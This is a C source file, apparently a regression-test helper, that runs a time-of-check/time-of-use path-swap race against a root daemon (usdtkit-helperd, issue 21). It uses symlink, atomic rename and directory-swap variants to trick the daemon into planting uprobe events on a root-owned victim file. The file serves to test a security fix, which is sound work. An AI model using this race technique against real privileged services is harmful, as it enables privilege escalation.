// SPDX-License-Identifier: MIT
/*
 * The path-swap attack on usdtkit-helperd (issue 21), as an unprivileged
 * user would run it: make the root daemon create uprobe events on a file
 * the caller does not own, here VICTIM, a root-owned copy of the program.
 *
 *   pathswap MODE DIR SRC VICTIM SECONDS MAXROUNDS
 *
 * Each round, in a forked child (whose exit tells the daemon the file is no
 * longer used): a fresh copy of SRC (a new inode, so the daemon parses and
 * registers it) is made at DIR/gen (DIR/d/gen in mode dir), mapped
 * read-only, and REGISTERed; after a delay the name is swapped, so that a
 * daemon that checked the name first and then writes it into uprobe_events
 * names VICTIM for the kernel. The delay is drawn from [0, the previous
 * round's REGISTER round trip x 3/4]: it covers the parse and the writes
 * (a swap before the writes plants every site after it).
 *
 *   symlink  unlink DIR/gen, then symlink VICTIM there (two steps)
 *   rename   rename a symlink to VICTIM onto DIR/gen (one atomic step)
 *   dir      rename DIR/d away and a symlink to VICTIM's directory onto
 *            DIR/d (a directory component swapped; VICTIM must be named gen)
 *
 * The child prints "round N delay US status=S nprobes=P swapped=0|1" (swapped:
 * the swap was done before the answer came) and waits for a line on stdin
 * before it exits: the test checks, meanwhile, whether any event was
 * planted on VICTIM. Rounds go on until SECONDS or MAXROUNDS, or until the
 * test answers "stop" instead of "next" (it has seen enough real attacks);
 * then "done N".
 * An -EAGAIN (the daemon's new-file rate for this uid) waits and retries.
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <libgen.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "protoclient.h"

static const char *mode, *dir, *src, *victim;
static char gen[4096], genmap[4200];

static uint64_t now_us(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000 + (uint64_t)ts.tv_nsec / 1000;
}

static void die(const char *what)
{
	fprintf(stderr, "pathswap: %s: %s\n", what, strerror(errno));
	exit(2);
}

static void path(char *out, const char *name)
{
	snprintf(out, 4096, "%s/%s", dir, name);
}

/* Removes a file, a symlink or an empty directory tree of ours at p. */
static void rm(const char *p)
{
	char sub[4200];

	if (unlink(p) == 0 || errno == ENOENT)
		return;
	snprintf(sub, sizeof(sub), "%s/gen", p);
	unlink(sub);
	rmdir(p);
}

/* A fresh copy of SRC at `to` (a new inode). */
static void copy(const char *to)
{
	char tmp[4200], buf[65536];
	int in = open(src, O_RDONLY | O_CLOEXEC), out;
	ssize_t n;

	snprintf(tmp, sizeof(tmp), "%s.new", to);
	unlink(tmp);
	out = open(tmp, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	if (in < 0 || out < 0)
		die("copy");
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			die("copy write");
	close(in);
	close(out);
	if (rename(tmp, to) != 0)
		die("rename copy");
}

/* Sets up the round's names: the file to map at `genmap`, the swap's symlink ready. */
static void prepare(void)
{
	char p[4096], d[4096];

	path(p, "sym");
	rm(p);
	path(p, "d.old");
	rm(p);
	if (!strcmp(mode, "dir")) {
		char vdir[4096];

		path(d, "d");
		rm(d);
		if (mkdir(d, 0755) != 0)
			die("mkdir d");
		snprintf(genmap, sizeof(genmap), "%s/gen", d);
		copy(genmap);
		snprintf(vdir, sizeof(vdir), "%s", victim);
		path(p, "sym");
		if (symlink(dirname(vdir), p) != 0)
			die("symlink dir");
		return;
	}
	rm(gen);
	copy(gen);
	snprintf(genmap, sizeof(genmap), "%s", gen);
	path(p, "sym");
	if (!strcmp(mode, "rename") && symlink(victim, p) != 0)
		die("symlink");
}

static void swap(void)
{
	char p[4096], d[4096], old[4096];

	if (!strcmp(mode, "symlink")) {
		unlink(gen);
		if (symlink(victim, gen) != 0)
			die("symlink");
	} else if (!strcmp(mode, "rename")) {
		path(p, "sym");
		if (rename(p, gen) != 0)
			die("rename");
	} else {
		path(d, "d");
		path(old, "d.old");
		path(p, "sym");
		if (rename(d, old) != 0 || rename(p, d) != 0)
			die("rename dir");
	}
}

/* One round in a child; returns its REGISTER round trip in µs (0: none). */
static uint64_t round_child(unsigned n, uint64_t delay_us)
{
	struct usdt_msg_module req;
	struct usdt_msg_reply rep;
	struct stat st;
	char line[64];
	uint64_t t0, rtt = 0;
	bool swapped = false;
	void *map;
	int fd, c;

	prepare();
	fd = open(genmap, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) != 0)
		die("open gen");
	map = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	if (map == MAP_FAILED)
		die("mmap");
	close(fd);
	c = proto_connect();
	if (c < 0)
		die("connect");
	t0 = now_us();
	proto_module(&req, USDT_MSG_REGISTER, (uint64_t)(uintptr_t)map, 1);
	if (send(c, &req, sizeof(req), 0) != (ssize_t)sizeof(req))
		die("send");
	for (;;) {
		struct pollfd pf = {.fd = c, .events = POLLIN};
		uint64_t el = now_us() - t0;
		int wait_ms = swapped ? 10000 : (int)((delay_us > el ? delay_us - el : 0) / 1000);

		if (poll(&pf, 1, wait_ms) > 0)
			break;
		if (swapped)
			break;
		if (now_us() - t0 >= delay_us) {
			swap();
			swapped = true;
		} else {
			/* The rest of the delay, finer than poll's milliseconds. */
			uint64_t left = delay_us - (now_us() - t0);

			if (left < 1000) {
				usleep((useconds_t)left);
				swap();
				swapped = true;
			}
		}
	}
	memset(&rep, 0, sizeof(rep));
	if (proto_is_reply(&rep, proto_recv(c, &rep, sizeof(rep), 10000), 1))
		rtt = now_us() - t0;
	printf("round %u delay %" PRIu64 " status=%d nprobes=%u swapped=%d\n", n, delay_us,
	       rtt ? rep.status : -9999, rtt ? rep.nprobes : 0, swapped);
	fflush(stdout);
	/* Hold the mapping (and so the events) until the test has looked. */
	if (!fgets(line, sizeof(line), stdin))
		exit(0);
	if (strncmp(line, "stop", 4) == 0)
		exit(5);
	return rtt;
}

int main(int argc, char **argv)
{
	uint64_t end, rtt = 20000, seed = (uint64_t)getpid() * 2654435761u;
	unsigned max, n = 0;
	char p[4096];

	if (argc != 7) {
		fprintf(stderr, "usage: pathswap symlink|rename|dir DIR SRC VICTIM SECONDS "
				"MAXROUNDS\n");
		return 2;
	}
	mode = argv[1];
	dir = argv[2];
	src = argv[3];
	victim = argv[4];
	end = now_us() + strtoull(argv[5], NULL, 10) * 1000000;
	max = (unsigned)strtoul(argv[6], NULL, 10);
	if (strcmp(mode, "symlink") && strcmp(mode, "rename") && strcmp(mode, "dir"))
		return 2;
	path(gen, "gen");
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (n < max && now_us() < end) {
		int fds[2], st;
		uint64_t delay;
		pid_t pid;
		char buf[256];
		ssize_t len;
		FILE *f;

		seed = seed * 6364136223846793005ull + 1442695040888963407ull;
		delay = (seed >> 33) % (rtt * 3 / 4 + 1);
		if (pipe(fds) != 0)
			die("pipe");
		pid = fork();
		if (pid < 0)
			die("fork");
		if (pid == 0) {
			uint64_t r;

			close(fds[0]);
			r = round_child(n, delay);
			len = snprintf(buf, sizeof(buf), "%" PRIu64 "\n", r);
			if (write(fds[1], buf, (size_t)len) != len)
				_exit(3);
			_exit(0);
		}
		close(fds[1]);
		f = fdopen(fds[0], "r");
		if (f && fgets(buf, sizeof(buf), f) && strtoull(buf, NULL, 10) > 0)
			rtt = strtoull(buf, NULL, 10);
		if (f)
			fclose(f);
		if (waitpid(pid, &st, 0) < 0 || !WIFEXITED(st))
			return 2;
		n++;
		if (WEXITSTATUS(st) == 5)
			break; /* the test said "stop" */
		if (WEXITSTATUS(st) != 0)
			return 2;
	}
	path(p, "d");
	rm(p);
	path(p, "d.old");
	rm(p);
	path(p, "sym");
	rm(p);
	rm(gen);
	printf("done %u\n", n);
	return 0;
}
